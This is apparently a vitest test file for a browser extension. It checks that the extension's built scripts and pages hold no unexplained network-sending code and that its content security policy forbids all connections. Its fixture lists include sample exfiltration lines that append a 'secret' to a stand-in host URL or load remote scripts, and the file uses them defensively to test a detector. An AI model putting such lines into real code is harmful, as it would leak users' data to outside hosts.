import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { ROOT } from '../../src/cli/load-ruleset.ts';
import { meansInMarkup, meansInScript } from '../support/browser/sending.ts';

/**
 * What is in libraries and never runs here, or loads our own files: file, means, how often at most,
 * and why it is harmless. The policy of the pages forbids the connection in any case.
 */
const KNOWN: readonly { readonly file: RegExp; readonly means: string; readonly most: number; readonly why: string }[] =
  [
    {
      file: /^assets\/bootstrap-/,
      means: 'windows.create',
      most: 1,
      why: 'shows our own page: its address is from runtime.getURL, a line above',
    },
    {
      file: /^(?:assets\/bootstrap-|service-worker|src\/entries\/background)/,
      means: 'windows.update',
      most: 1,
      why: 'brings the window of our own options page to the front',
    },
    { file: /^assets\/bootstrap-/, means: 'tabs.create', most: 4, why: 'our own pages, in tabs' },
    {
      file: /^assets\/portfolio-/,
      means: '<form>',
      most: 2,
      why: 'Enter adds names; the submit is prevented, and form-action forbids it',
    },
    {
      file: /^assets\/bootstrap-/,
      means: 'tabs.update',
      most: 2,
      why: 'our own page, shown or opened in its tab',
    },
    {
      file: /^assets\/verdict-ui-/,
      means: '<form>',
      most: 1,
      why: 'Enter asks about another name; likewise',
    },
    { file: /^assets\/index\.html-/, means: '<form>', most: 1, why: 'Enter adds a site in the options; likewise' },
    { file: /^assets\/welcome-/, means: '<form>', most: 1, why: 'Enter tries a name; likewise' },
    {
      file: /^assets\/dist-/,
      means: 'location =',
      most: 2,
      why: 'where an event takes place, in the library for calendars; no address of a page',
    },
    {
      file: /^assets\/worker-shared-/,
      means: 'XMLHttpRequest',
      most: 1,
      why: 'Papa Parse can download; it is only ever given text',
    },
  ];

/** The scan must find each of these; the first word is what it calls them. */
const PLANTED: readonly (readonly [string, string])[] = [
  ['fetch', 'fetch("/x")'],
  ['fetch', 'const {fetch: go} = window; self.fetch("/x")'],
  ['fetch', 'globalThis["fetch"]("/x")'],
  ['fetch', 'const go = fetch; go("/x")'],
  ['XMLHttpRequest', 'new XMLHttpRequest'],
  ['WebSocket', 'new WebSocket("wss://x.example")'],
  ['EventSource', 'new EventSource("/x")'],
  ['sendBeacon', 'navigator.sendBeacon("/x", data)'],
  ['RTCPeerConnection', 'new RTCPeerConnection()'],
  ['WebTransport', 'new WebTransport("https://x.example")'],
  ['importScripts', 'importScripts("https://x.example/a.js")'],
  ['SharedWorker', 'new SharedWorker("/x.js")'],
  ['Worker', 'new Worker("https://x.example/a.js")'],
  ['Worker', 'new Worker("//x.example/a.js", { type: "module" })'],
  ['Image', 'new Image().src'],
  ['.src =', 'picture.src = "https://x.example/?" + secret'],
  ['.action =', 'form.action = address'],
  ['.srcset =', 'picture["srcset"] = address'],
  ['setAttribute', 'picture.setAttribute("src", address)'],
  ['<img>', 'document.createElement("img")'],
  ['<link>', 'document.createElement(`link`)'],
  ['<script>', 'document.createElementNS("http://www.w3.org/1999/xhtml", "script")'],
  ['<iframe>', 'jsx("iframe", {title: "x"})'],
  ['src:', 'jsx(Picture, {src: "https://x.example/a.png"})'],
  ['location =', 'location.href = "https://x.example/?" + secret'],
  ['location =', 'location = address'],
  ['location.assign', 'location.assign(address)'],
  ['location.replace', 'window.location.replace(address)'],
  ['open', 'open("https://x.example/?" + secret)'],
  ['window.open', 'window.open(address)'],
  ['tabs.create', 'browser.tabs.create({url: "https://x.example/"})'],
  ['tabs.update', 'chrome.tabs.update({url: address})'],
  ['windows.create', 'chrome.windows.create({url: address, type: "popup"})'],
  ['downloads.download', 'chrome.downloads.download({url: address})'],
  ['sync.set', 'chrome.storage.sync.set({a: 1})'],
  ['runtime.sendNativeMessage', 'chrome.runtime.sendNativeMessage("x", {})'],
  ['import()', 'import("https://x.example/a.js")'],
  ['import()', 'import(address)'],
  ['import', 'import a from "https://x.example/a.js"; a()'],
  ['eval', 'eval(text)'],
  ['Function', 'new Function(text)'],
];
const PLANTED_MARKUP: readonly (readonly [string, string])[] = [
  ['foreign address', '<img src="https://x.example/a.png">'],
  ['foreign address', '<script type="module" src=//x.example/a.js></script>'],
  ['foreign address', '@import "https://x.example/a.css";'],
  ['foreign address', 'a { background: url( "https://x.example/a.png") }'],
  ['<form>', '<form method=post>'],
  ['<base>', '<base href="/x/">'],
  ['refresh', '<meta http-equiv="refresh" content="0; url=x">'],
  ['prefetch', '<link rel="prefetch" href="/x">'],
  ['prefetch', '<link rel=dns-prefetch href="//x.example">'],
  ['inline script', '<script>run()</script>'],
];

describe('the scan', () => {
  test.each(PLANTED)('finds %s in %s', (means, code) => {
    expect(meansInScript(code).map((one) => one.means)).toContain(means);
  });

  test.each(PLANTED_MARKUP)('finds %s in %s', (means, text) => {
    expect(meansInMarkup(text).map((one) => one.means)).toContain(means);
  });

  test('leaves alone what sends nothing', () => {
    const harmless = [
      'const tree = { fetch(key) { return tree.get(key); } }; tree.fetch("a")',
      'indexedDB.open("a", 1)',
      'const { href } = location; host(location.href)',
      'import("./a.js"); new Worker(`/worker.js`, { type: `module` })',
      'browser.tabs.create({ url: browser.runtime.getURL("a.html") })',
      'jsx("button", { type: "button" })',
      'const text = "https://x.example/ fetch( new WebSocket(";',
    ];
    for (const code of harmless) expect(meansInScript(code), code).toEqual([]);
    expect(
      meansInMarkup('<link rel="stylesheet" href="/assets/a.css"><script type="module" src="/assets/a.js"></script>'),
    ).toEqual([]);
  });
});

describe.each(['chrome', 'firefox'])('the build for %s', (browser) => {
  const folder = join(ROOT, 'dist', browser);
  const files = readdirSync(folder, { recursive: true, encoding: 'utf8' }).map((name) => name.replaceAll('\\', '/'));
  const read = (name: string) => readFileSync(join(folder, name), 'utf8');

  test('has a policy that forbids every connection, form, frame and foreign file on all of its pages', () => {
    const manifest = JSON.parse(read('manifest.json'));
    const policy = new Map<string, string>(
      manifest.content_security_policy.extension_pages.split(';').map((one: string) => {
        const [name = '', ...values] = one.trim().split(/\s+/);
        return [name, values.join(' ')];
      }),
    );
    expect(policy.get('default-src')).toBe("'none'");
    expect(policy.get('connect-src')).toBe("'none'");
    expect(policy.get('form-action')).toBe("'none'");
    expect(policy.get('base-uri')).toBe("'none'");
    for (const [name, values] of policy) expect(values, name).toMatch(/^(?:'none'|'self'(?: data:)?)$/);
    // `data:` is for pictures alone.
    expect([...policy].filter(([, values]) => values.includes('data:')).map(([name]) => name)).toEqual(['img-src']);
    expect(manifest.content_security_policy.sandbox).toBeUndefined();
    expect(manifest.permissions).not.toContain('webRequest');
    expect(manifest.host_permissions ?? []).toEqual([]);
    expect(manifest.web_accessible_resources ?? []).toEqual([]);
    expect(manifest.externally_connectable).toBeUndefined();
  });

  test('has no means of sending in its scripts but what is known and explained', () => {
    const scripts = files.filter((name) => /\.m?js$/.test(name));
    expect(scripts.length).toBeGreaterThan(10);
    const found = scripts.flatMap((file) => meansInScript(read(file)).map((one) => ({ file, ...one })));
    const unknown = found.filter(({ file, means }) => !KNOWN.some((one) => one.file.test(file) && one.means === means));
    expect(unknown).toEqual([]);
    for (const { file, means, most, why } of KNOWN) {
      const count = found.filter((one) => file.test(one.file) && one.means === means).length;
      expect(count, `${means} in ${file}: ${why}`).toBeGreaterThan(0);
      const inEach = scripts.filter((name) => file.test(name)).length;
      expect(count, `${means} in ${file}: ${why}`).toBeLessThanOrEqual(most * inEach);
    }
  });

  test('has no means of sending in its pages and style sheets', () => {
    const markup = files.filter((name) => /\.(?:html|css|svg)$/.test(name));
    expect(markup.length).toBeGreaterThan(5);
    expect(markup.flatMap((file) => meansInMarkup(read(file)).map((one) => ({ file, ...one })))).toEqual([]);
  });

  test('has no files of other kinds', () => {
    expect(
      files.filter((name) => /\.\w+$/.test(name) && !/\.(?:js|html|css|json|png)$|^licences\.txt$/.test(name)),
    ).toEqual([]);
  });
});
